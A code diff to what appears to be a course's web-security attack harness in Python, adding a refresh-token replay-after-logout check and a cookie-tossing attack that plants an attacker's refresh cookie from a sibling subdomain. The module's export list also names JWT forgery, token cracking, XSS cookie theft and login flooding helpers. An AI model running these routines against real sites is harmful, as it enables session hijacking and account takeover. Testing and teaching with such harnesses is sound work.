@@ -37,7 +37,8 @@ __all__ = [
     "WORDLIST", "NONE_CASINGS", "segments", "unverified_claims", "tamper_claims", "sign_hs256",
     "alg_none_tokens", "confusion_token", "CrackResult", "load_wordlist", "crack_hs256", "guess_rate",
     "brute_force_years", "rsa_jwk", "jwks_document", "jwk_injection_token", "jku_injection_token",
-    "kid_traversal_token", "StoredCookie", "Browser", "xss_steal", "HEURISTICALLY_CACHEABLE", "CacheAnswer",
+    "kid_traversal_token", "StoredCookie", "Browser", "xss_steal", "refresh_after_logout", "TossResult",
+    "toss_refresh_cookie", "HEURISTICALLY_CACHEABLE", "CacheAnswer",
     "SharedCache", "HeldPasswordChecks", "FloodResult", "login_flood", "guess_passwords", "AttackLog",
     "status_verdict",
 ]
@@ -345,6 +346,73 @@ def xss_steal(browser: Browser, page_url: str) -> dict[str, str]:
         loot["document.cookie"] = cookies
     loot.update({f"page variable {k}": v for k, v in sorted(browser.memory.items())})
     return loot
+
+
+# --- after logout, and with a planted cookie: what a login's refresh family still does ---------------
+
+REFRESH_COOKIE_NAME = "__Secure-refresh"  # the refresh cookie both the course app and the naive one set
+REFRESH_PATH = "/refresh"
+
+
+def refresh_after_logout(url: str, make_client: Callable[[], requests.Session], credentials: dict[str, str],
+                         rounds: int = 3) -> tuple[dict[str, Any], list[int]]:
+    """Log in, let a thief copy the refresh cookie, log out at ``/logout`` with the access token; the thief refreshes.
+
+    Returns the logout's JSON answer and the status of each of the thief's ``rounds`` ``POST /refresh``.
+    """
+    victim = make_client()
+    token = victim.post(url + "/login", json=credentials).json()["access_token"]
+    thief = make_client()
+    thief.cookies.update(victim.cookies)  # copied before logout: malware, a synced profile, a proxy log
+    logout = victim.post(url + "/logout", headers={"Authorization": f"Bearer {token}"}).json()
+    return logout, [thief.post(url + REFRESH_PATH, json={}).status_code for _ in range(rounds)]
+
+
+@dataclass(frozen=True)
+class TossResult:
+    """What the victim's browser got after a sibling subdomain planted the attacker's refresh cookie."""
+
+    refresh_status: int  # the victim's POST /refresh
+    refreshed_as: str | None  # whose access token it got, if any
+    logout_statuses: tuple[int, int]  # the victim's POST /refresh/logout, then POST /logout with its access token
+    victim_family_alive: bool  # after both logouts, the victim's own refresh token still rotates, presented alone
+    attacker_family_alive: bool
+
+
+def _still_rotates(url: str, make_client: Callable[[], requests.Session], token: str) -> bool:
+    probe = make_client()
+    probe.cookies.set(REFRESH_COOKIE_NAME, token, domain=_site(url)[1], path=REFRESH_PATH)
+    return probe.post(url + REFRESH_PATH, json={}).status_code == 200
+
+
+def toss_refresh_cookie(url: str, make_client: Callable[[], requests.Session], victim: dict[str, str],
+                        attacker: dict[str, str]) -> TossResult:
+    """Cookie tossing: the attacker's refresh cookie is planted in the victim's browser, then the victim logs in and out.
+
+    The attacker logs in to their own account, plants that refresh cookie from a sibling subdomain
+    (``Browser.plant_from_sibling``, ``Path=/refresh``), and waits; the victim logs in, refreshes, and logs
+    out twice: at ``/refresh/logout`` (where the refresh cookies go) and at ``/logout`` with the access token
+    from its login. Afterwards each family is probed with its own token alone.
+    """
+    own = make_client()
+    own.post(url + "/login", json=attacker)
+    planted = own.cookies[REFRESH_COOKIE_NAME]
+    browser = Browser(make_client())
+    browser.plant_from_sibling(url, REFRESH_COOKIE_NAME, planted, path=REFRESH_PATH)
+    login = browser.request("POST", url + "/login", json=victim).json()
+    _, host = _site(url)
+    victims_own = browser.cookies[(host, REFRESH_PATH, REFRESH_COOKIE_NAME, True)].value
+    refreshed = browser.request("POST", url + REFRESH_PATH, json={})
+    body = refreshed.json() if refreshed.ok else {}
+    token = body.get("access_token")
+    refreshed_as = unverified_claims(token).get("sub") if isinstance(token, str) else None
+    logouts = (browser.request("POST", url + REFRESH_PATH + "/logout").status_code,
+               browser.request("POST", url + "/logout", headers={"Authorization": f"Bearer {login['access_token']}"}).status_code)
+    # The rotated copy, if the refresh went through on the planted token, is the attacker's now.
+    attacker_token = browser.cookies.get((host, REFRESH_PATH, REFRESH_COOKIE_NAME, False))
+    return TossResult(refreshed.status_code, refreshed_as, logouts,
+                      _still_rotates(url, make_client, victims_own),
+                      _still_rotates(url, make_client, attacker_token.value if attacker_token else planted))
 
 
 # --- a shared cache, modelled: what a CDN or reverse proxy may store and hand to the next user -------
